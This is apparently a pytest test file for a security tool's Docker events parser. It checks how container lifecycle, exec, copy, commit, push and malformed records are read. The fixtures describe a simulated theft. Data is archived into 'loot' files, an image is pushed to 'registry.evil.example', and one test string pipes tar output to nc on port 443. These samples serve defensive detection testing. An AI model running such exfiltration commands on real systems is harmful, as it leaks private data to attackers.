"""Golden tests for the Docker engine events source: hand-written ``docker events --format
'{{json .}}'`` lines in both spellings (Engine < 25 with status/id/from, Engine 25 without)."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import FALCO, OCSF, TETRAGON, ZEEK, read
from tidewaiter.events import Activity, Api, Container, Event, Image, Kind, RawRef
from tidewaiter.sources import all_sources, get

all_sources()
import tidewaiter.sources.docker_events  # noqa: E402, F401 - registers the source
from tidewaiter.sources.docker_events import split_command  # noqa: E402

API_ID = "14c2529eb4498c5d1ffd6915d05bf58a91bdda796af59f41d480d11c099d0479"
API = Container(
    uid=API_ID,
    name="shop-api-1",
    image=Image(name="registry.example.com/shop/api:1.4.2"),
    runtime="docker",
)
LOOT = "registry.evil.example:5000/loot:1"
TAR = ("sh", "-c", "tar", "czf", "/tmp/loot.tgz", "/srv/data")

# podman events --format json: its own shape (Status, no Action/Actor), not read here.
PODMAN = (
    b'{"ID":"' + API_ID.encode() + b'","Image":"docker.io/library/alpine:3.19","Name":"x",'
    b'"Status":"start","Time":"2024-05-02T10:00:00.1Z","Type":"container"}\n'
)


@pytest.fixture(scope="module")
def path(fixtures: Path) -> Path:
    return fixtures / "docker_events" / "events.jsonl"


@pytest.fixture(scope="module")
def by_line(path: Path) -> dict[int, Event]:
    events, _ = read(path)
    lines = [e.raw.line for e in events]
    assert len(set(lines)) == len(lines)  # at most one event per record
    return {e.raw.line: e for e in events if e.raw.line is not None}


def event(
    path: Path,
    line: int,
    time: float,
    activity: Activity,
    api: Api,
    container: Container | None = API,
) -> Event:
    return Event(
        time=time,
        kind=Kind.CONTAINER,
        activity=activity,
        raw=RawRef("docker-events", str(path), line=line),
        container=container,
        api=api,
    )


def test_sniffed_and_counted(path: Path) -> None:
    events, report = read(path)
    assert report.files == {str(path): "docker-events"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (23, 18, 5, 0)
    # network connect, exec_die, health_status, volume mount, image pull: nothing to use
    assert {e.raw.line for e in events}.isdisjoint({3, 6, 14, 22, 23})


def test_lifecycle(path: Path, by_line: dict[int, Event]) -> None:
    def call(operation: str) -> Api:
        return Api(operation=operation, resource="container")

    assert by_line[1] == event(path, 1, 1714644000.101, Activity.OTHER, call("create"))
    assert by_line[2] == event(path, 2, 1714644001.25, Activity.START, call("start"))
    assert [by_line[n] for n in (17, 18, 19)] == [
        event(path, 17, 1714644110.0, Activity.STOP, call("kill")),
        event(path, 18, 1714644110.5, Activity.STOP, call("die")),
        event(path, 19, 1714644111.0, Activity.STOP, call("destroy")),
    ]


def test_exec_command_follows_the_colon(path: Path, by_line: dict[int, Event]) -> None:
    assert by_line[4] == event(
        path,
        4,
        1714644060.005,
        Activity.EXEC,
        Api(operation="exec_create", resource="container", command=TAR),
    )
    assert by_line[5] == event(
        path,
        5,
        1714644060.007,
        Activity.EXEC,
        Api(operation="exec_start", resource="container", command=TAR),
    )


def test_exec_commands_a_shell_cannot_split(by_line: dict[int, Event]) -> None:
    # An unbalanced quote falls back to whitespace; backslashes stay (a Windows container).
    assert by_line[15].api == Api(
        operation="exec_start", resource="container", command=("sh", "-c", "echo", "it's", "done")
    )
    assert by_line[16].api is not None
    assert by_line[16].api.command == (
        "cmd",
        "/S",
        "/C",
        "tar",
        "-a",
        "-c",
        "-f",
        "C:\\loot.zip",
        "C:\\data",
    )


def test_pre_1_22_engine_record(path: Path, by_line: dict[int, Event]) -> None:
    # Only status/id/from/time: a container event, the image from "from".
    assert by_line[21] == event(
        path,
        21,
        1714644130.0,
        Activity.EXEC,
        Api(operation="exec_start", resource="container", command=("tar", "cf", "-", "/data")),
        Container(
            uid="cba06b5736faf67e54b07b561eae94395e774c517a7d910a54369e1263ccfbd4",
            image=Image(name="busybox"),
            runtime="docker",
        ),
    )


def test_copy_out_and_copy_in(path: Path, by_line: dict[int, Event]) -> None:
    assert by_line[7] == event(
        path, 7, 1714644070.125, Activity.COPY, Api(operation="copy", resource="container")
    )
    # extract-to-dir puts data into the container: not a copy out.
    assert by_line[13] == event(
        path, 13, 1714644098.0, Activity.OTHER, Api(operation="copy-in", resource="container")
    )


def test_commit_export_and_image_calls(path: Path, by_line: dict[int, Event]) -> None:
    assert by_line[8] == event(
        path,
        8,
        1714644080.0,
        Activity.COMMIT,
        Api(operation="commit", resource="container", target=LOOT),
    )
    assert by_line[12] == event(
        path, 12, 1714644097.0, Activity.EXPORT, Api(operation="export", resource="container")
    )
    assert [by_line[n] for n in (9, 10, 11)] == [
        event(
            path,
            9,
            1714644081.5,
            Activity.OTHER,
            Api(operation="tag", resource="image", target="registry.evil.example:5000/loot:latest"),
            None,
        ),
        event(
            path,
            10,
            1714644095.25,
            Activity.PUSH,
            Api(operation="push", resource="image", target=LOOT),
            None,
        ),
        event(
            path,
            11,
            1714644096.0,
            Activity.OTHER,
            Api(operation="save", resource="image", target=LOOT),
            None,
        ),
    ]


def test_kubernetes_pod_container_labels(by_line: dict[int, Event]) -> None:
    pinned = (
        "registry.example.com/payments/api@sha256:"
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    )
    assert by_line[20].container == Container(
        uid="425c89ed5bb78a7623fae60fd8a6f648488168740fe82cf6ad34caa4d07aa972",
        name="k8s_api_api-7d9f8b6c5-x2k4q_payments_3f1c9a52-6a8e-4a37-9d0e-2b9c5e7f1a44_0",
        image=Image(name=pinned, uid=pinned),
        runtime="docker",
        pod_name="api-7d9f8b6c5-x2k4q",
        namespace="payments",
    )


def test_malformed_records_are_counted_with_their_line(fixtures: Path) -> None:
    path = fixtures / "docker_events" / "malformed.jsonl"
    events, report = read(path, fmt="docker-events")
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 1", "malformed JSON"),
        ("line 2", "JSON is not an object"),
        ("line 3", "event has no Action"),
        ("line 4", "Actor is not an object"),
        ("line 5", "container event has no Actor.ID"),
        ("line 6", "unreadable time 'yesterday'"),
        ("line 8", "Actor.Attributes is not an object"),
        ("line 9", "malformed JSON"),
        ("line 10", "Action is not a string"),
        ("line 11", "record has no time"),
    ]
    assert report.skipped == Counter(
        {
            "malformed JSON": 2,
            "JSON is not an object": 1,
            "event has no Action": 1,
            "Actor is not an object": 1,
            "container event has no Actor.ID": 1,
            "unreadable time 'yesterday'": 1,
            "Actor.Attributes is not an object": 1,
            "Action is not a string": 1,
            "record has no time": 1,
        }
    )
    # Line 7's command holds bytes that are not UTF-8: the event is kept, and the line sniffs.
    assert (report.records, report.events) == (11, 1)
    assert get("docker-events").sniff(path.read_bytes().splitlines()[6])
    assert events[0].raw.line == 7
    assert events[0].api is not None
    assert events[0].api.command == ("tar", "czf", "/tmp/\ufffd\ufffd.tgz", "/srv")


def test_podman_records_are_refused_with_a_reason(tmp_path: Path) -> None:
    path = tmp_path / "podman.jsonl"
    path.write_bytes(PODMAN)
    events, report = read(path, fmt="docker-events")
    assert events == []
    assert [(p.where, p.reason) for p in report.examples] == [("line 1", "event has no Action")]


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("sh -c tar czf /tmp/x.tgz /srv", ("sh", "-c", "tar", "czf", "/tmp/x.tgz", "/srv")),
        ("sh -c 'tar cf - /srv | nc host 443'", ("sh", "-c", "tar cf - /srv | nc host 443")),
        ("  tar  cf - # not a comment ", ("tar", "cf", "-", "#", "not", "a", "comment")),
        ('echo "unbalanced', ("echo", '"unbalanced')),
        ("", ()),
    ],
)
def test_split_command(text: str, argv: tuple[str, ...]) -> None:
    assert split_command(text) == argv


def test_sniff_accepts_both_spellings(path: Path) -> None:
    lines = path.read_bytes().splitlines(keepends=True)
    source = get("docker-events")
    assert source.sniff(lines[0])  # Engine < 25: status/id/from beside Action/Actor
    assert source.sniff(lines[6])  # Engine 25: Action/Actor only
    assert source.sniff(lines[20])  # before API 1.22: status/id/from/time only
    assert source.sniff(b"\xef\xbb\xbf\n" + lines[6])


@pytest.mark.parametrize(
    "head",
    [TETRAGON, FALCO, ZEEK, OCSF, PODMAN, b"", b'{"status":"ok"}\n', b"[1]\n"],
    ids=["tetragon", "falco", "zeek", "ocsf", "podman", "empty", "status-only", "array"],
)
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("docker-events").sniff(head)


@pytest.mark.parametrize(
    "name",
    [
        "hubble/flows.jsonl",
        "vpcflow/default.log",
        "vpcflow/cloudwatch.log",
        "falco/alerts.jsonl",
        "zeek/conn.json",
    ],
)
def test_sniff_rejects_other_fixtures(fixtures: Path, name: str) -> None:
    assert not get("docker-events").sniff((fixtures / name).read_bytes())
